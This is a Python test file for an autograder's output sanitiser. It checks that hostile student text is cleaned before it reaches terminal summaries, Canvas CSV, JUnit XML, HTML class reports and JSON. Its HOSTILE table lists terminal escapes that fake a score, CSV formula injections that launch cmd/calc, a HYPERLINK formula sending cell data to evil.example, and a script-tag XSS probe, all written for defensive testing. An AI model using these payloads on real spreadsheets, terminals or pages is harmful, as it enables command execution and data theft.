"""Student text is cleaned at the boundary and safe in every place it goes.

A table of hostile strings (terminal escapes, a fake score, controls, lone
surrogates, XML-forbidden characters, spreadsheet formulas, markup, 5 MB) is
pushed through each destination with the real functions, and each output is
checked for what that destination needs: a terminal sees no control
character, a CSV cell is never a formula, XML parses back, HTML holds no
markup of the student's, JSON is valid UTF-8. The class of input, not one file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from grader.diagnose import COURSE_ONLY
from grader.execute import CallOutcome
from grader.grade import load_assignment, make_plan
from grader.lms.canvas import to_canvas_csv
from grader.lms.gradescope import to_gradescope
from grader.lms.junit import to_junit
from grader.lms.lti import to_lti_scores
from grader.report import validate, write_json, write_text
from grader.sandbox.protocol import CallEvent, Loaded, LoadError, Returned, parse_event
from grader.scoring import MESSAGE_BYTES, exercise_totals, judge
from grader.summary import render
from grader.text import MAX_TEXT, clean, csv_row, fit, size, valid_unicode

HOSTILE = {
    "csi_clear_screen": "\x1b[2J\x1b[H",
    "fake_colored_score": "\x1b[1m\x1b[32mScore: 100/100\x1b[0m",
    "fake_score_line": "x\nScore: 100/100\n",
    "osc_title": "\x1b]0;pwned\x07 and \x1b]2;again\x1b\\",
    "csi_8bit": "\x9b31mred\x9b0m",
    "lone_high_surrogate": "a\ud800b",
    "lone_low_surrogate": "a\udfffb",
    "nul": "a\x00b",
    "vertical_tab": "a\x0bb",
    "del": "a\x7fb",
    "c1_nel": "a\x85b",
    "bom_like": "a\ufffeb\uffff",
    "bidi_override": "a\u202egnirts\u202c",
    "hyperlink_formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus_formula": "-1+1",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "script": "<script>alert(1)</script>",
    "cdata_end": "]]><x/>",
    "quotes": "\"'&<>",
    "five_megabytes": "\x1b[31m" + "x" * 5_000_000,
}
CASES = pytest.mark.parametrize("hostile", list(HOSTILE.values()), ids=list(HOSTILE))

# What no destination may hold: controls but newline and tab (C0, DEL, C1), lone
# surrogates, the non-characters XML forbids, and bidirectional overrides.
UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_safe(text: str, limit: int | None = None) -> None:
    assert not UNSAFE.search(text), repr(UNSAFE.search(text))
    text.encode("utf-8")
    if limit is not None:
        assert len(text) <= limit


def report_with(hostile: str) -> dict[str, Any]:
    """A valid report with the hostile text everywhere a submission can put text."""
    test = {"name": "relu/course_array", "exercise": "relu", "status": "failed", "score": 0.0,
            "max_score": 10.0, "visibility": "visible", "message": hostile, "hint": hostile,
            "duration_s": 0.01}  # fmt: skip
    report = {
        "schema_version": "1.0", "assignment": "forward", "grader_version": "0.1.0",
        "graded_at": "2026-01-01T00:00:00Z", "duration_s": 1.0, "seed": 0, "sandbox": "process",
        "submission": {"path": hostile, "sha256": "0" * 64}, "status": "graded",
        "message": hostile, "score": 0.0, "max_score": 10.0,
        "exercises": [{"name": "relu", "score": 0.0, "max_score": 10.0, "passed": 0, "tests": 1}],
        "stdout": hostile, "stderr": hostile, "tests": [test],
    }  # fmt: skip
    validate(report, "report")
    return report


@CASES
def test_clean(hostile: str) -> None:
    cleaned = clean(hostile)
    assert_safe(cleaned, MAX_TEXT)
    assert "\x1b" not in cleaned and clean(cleaned) == cleaned
    assert size(fit(cleaned, 500)) <= 500


@CASES
def test_protocol_cleans_every_string_of_the_child(hostile: str) -> None:
    events = [
        {"ev": "call", "ex": 0, "case": 0, "status": "raised", "error": hostile,
         "traceback": [hostile] * 30, "mutated": [], "duration_s": 0.1},
        {"ev": "call", "ex": 0, "case": 0, "status": "returned", "mutated": [], "duration_s": 0.1,
         "value": {"kind": "other", "type": hostile, "reason": hostile}},
        {"ev": "load_error", "kind": hostile, "line": 1, "message": hostile,
         "traceback": [hostile]},
        {"ev": "loaded", "missing": [hostile]},
    ]  # fmt: skip
    for raw in events:
        event = parse_event(json.dumps(raw).encode(), max_values=10)
        for text in strings_of(event):
            assert_safe(text, MAX_TEXT)


def strings_of(event: object) -> list[str]:
    if isinstance(event, CallEvent):
        value = event.value or Returned("none", "")
        return [event.error, *event.traceback, value.type_name, value.reason or ""]
    if isinstance(event, LoadError):
        return [event.kind, event.message, *event.traceback]
    assert isinstance(event, Loaded)
    return list(event.missing)


@CASES
def test_summary_prints_no_control_character(hostile: str) -> None:
    report = report_with(hostile)
    for status in ("graded", "error"):
        report["status"] = status
        plain = render(report, tips={"relu": hostile}, color=False)
        assert_safe(plain)
        assert "\x1b" not in plain
        lines = plain.splitlines()
        assert lines[-1] == "Score: 0/10"
        assert not any(line.startswith("Score") for line in lines[:-1])  # no fake score line
        coloured = render(report, tips={"relu": hostile}, color=True)
        assert_safe(re.sub(r"\x1b\[[0-9;]*m", "", coloured))  # only our own colours


@CASES
def test_canvas_csv_cells_are_clean_and_never_formulas(hostile: str) -> None:
    reports = {hostile: report_with(hostile)}
    roster = [{"Student": hostile, "ID": hostile, "SIS User ID": hostile,
               "SIS Login ID": hostile, "Section": hostile}]  # fmt: skip
    for students in (None, roster):
        text, warnings = to_canvas_csv(reports, column=hostile, roster=students)
        rows = list(csv.reader(io.StringIO(text)))
        for cell in (cell for row in rows for cell in row):
            assert_safe(cell, MAX_TEXT + 1)
            assert not cell.startswith(FORMULA)
        for warning in warnings:
            assert_safe(warning, 300)


@CASES
def test_csv_row_is_the_summary_csv_helper(hostile: str) -> None:
    """batch.py's summary.csv can write ``csv_row([...])`` for the same guarantees."""
    for cell in csv_row([hostile, "relu", 10.0, hostile]):
        if isinstance(cell, str):
            assert_safe(cell, MAX_TEXT + 1)
            assert not cell.startswith(FORMULA)


@CASES
def test_junit_xml_always_parses_back(hostile: str) -> None:
    xml = to_junit({hostile: report_with(hostile)}, name=hostile)
    root = ET.fromstring(xml.split("\n", 1)[1])
    for element in root.iter():
        for text in [element.text or "", element.tail or "", *element.attrib.values()]:
            assert_safe(text)
    assert root.find("testsuite/testcase/failure") is not None


@CASES
def test_lti_json_is_clean_and_valid(hostile: str, tmp_path: Path) -> None:
    scores = to_lti_scores({"ada": report_with(hostile)})
    assert_safe(scores[0]["comment"], 1000)
    out = tmp_path / "scores.json"
    write_json(scores, "lti-scores", str(out))
    validate(json.loads(out.read_bytes().decode("utf-8")), "lti-scores")


@CASES
def test_gradescope_json_is_clean_and_valid(hostile: str, tmp_path: Path) -> None:
    results = to_gradescope(report_with(hostile))
    for text in [results["output"], *(t["output"] for t in results["tests"])]:
        assert_safe(text)
    out = tmp_path / "results.json"
    write_json(results, "gradescope", str(out))
    validate(json.loads(out.read_bytes().decode("utf-8")), "gradescope")


@CASES
def test_write_json_leaves_valid_utf8_without_lone_surrogates(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "report.json"
    write_json(report_with(hostile), "report", str(out))
    loaded = json.loads(out.read_bytes().decode("utf-8"))  # strict UTF-8
    json.dumps(loaded, ensure_ascii=False).encode("utf-8")  # no lone surrogate decoded either
    assert loaded["submission"]["path"] == valid_unicode(hostile)


@CASES
def test_write_text_never_crashes_on_a_lone_surrogate(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "out.txt"
    write_text(hostile, str(out))
    out.read_bytes().decode("utf-8")


def test_class_report_escapes_every_student_string(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib", reason="the class report needs the 'report' extra")
    from grader.classreport import render_class_report

    reports = {}
    for name, hostile in HOSTILE.items():
        report = report_with(hostile)
        report["exercises"][0]["name"] = hostile if name != "five_megabytes" else "relu"
        report["tests"][0]["exercise"] = report["exercises"][0]["name"]
        reports[hostile] = report
    page = render_class_report(reports)
    assert page.count("<script") == 1  # ours, at the end
    assert "<x/>" not in page and "alert(1)</script>" not in page
    assert_safe(page.replace("\n", ""))
    out = tmp_path / "class.html"
    write_text(page, str(out))
    out.read_bytes().decode("utf-8")


# --- The size of a report ----------------------------------------------------------------

OLD_WORST_CASE = 107_793_305  # measured on the previous parser and scoring (astral text)
OLD_TESTS = 44  # that report's tests: the bound is per test, as cases are added
LIMIT = 256 * 1024


def worst_outcomes(char: str) -> list[CallOutcome]:
    """Every way a submission can put its own text into a test's message, at full length."""
    text, lines = char * 10**5, tuple(char * 10**5 for _ in range(1000))
    return [
        CallOutcome("raised", error=text, traceback=lines, duration_s=1.0),
        CallOutcome("returned", Returned("other", text, reason=text), mutated=tuple(range(10**4))),
        CallOutcome("crashed", error=text),
        CallOutcome("timeout", error=text, duration_s=float("nan")),
    ]


def test_a_submissions_worst_report_stays_under_256_kb(tmp_path: Path) -> None:
    """Every test, each with the longest message a submission can cause, written for real."""
    spec = load_assignment("forward")
    plan = make_plan(spec, 0)
    hint = max([m.hint for m in spec.mistakes] + [COURSE_ONLY], key=size)
    sizes = {}
    for char in ["\U0001f600", '"', "\x00", "a", "\u00e9", "\x1b[2J"]:
        for k, outcome in enumerate(worst_outcomes(char)):
            results = []
            for exercise, cases, expected in plan.groups:
                for case, value in zip(cases, expected, strict=True):
                    result = judge(case, exercise, exercise.points / len(cases), outcome,
                                   np.asarray(value), reveal=True)  # fmt: skip
                    assert size(result.message) <= MESSAGE_BYTES
                    results.append({**result.to_dict(), "hint": hint})
            out = tmp_path / f"{k}.json"
            write_json(report_of(spec, results, char), "report", str(out))
            sizes[(char, k)] = out.stat().st_size
    assert len(results) == sum(len(cases) for _, cases, _ in plan.groups)
    worst = max(sizes.values())
    assert worst < LIMIT, sizes
    # 500 times smaller than before, test for test (assignments gain cases over time).
    assert worst / len(results) * 500 < OLD_WORST_CASE / OLD_TESTS


def report_of(spec: Any, tests: list[dict[str, Any]], char: str) -> dict[str, Any]:
    """A graded report around ``tests``, with stdout and stderr at their 4 KB cap of bad bytes."""
    output = (b"\xff" * 4096).decode("utf-8", "replace") + "\n[... output truncated: 9 bytes]"
    return {
        "schema_version": "1.0", "assignment": "forward", "grader_version": "0.1.0",
        "graded_at": "2026-01-01T00:00:00Z", "duration_s": 60.0, "seed": 2**63,
        "sandbox": "process", "submission": {"path": "s" * 255, "sha256": "0" * 64},
        "status": "graded", "message": f"0 of {len(tests)} tests passed", "score": 0.0,
        "max_score": 100.0,
        "exercises": exercise_totals(spec.exercises, []), "stdout": output, "stderr": output,
        "tests": tests,
    }  # fmt: skip
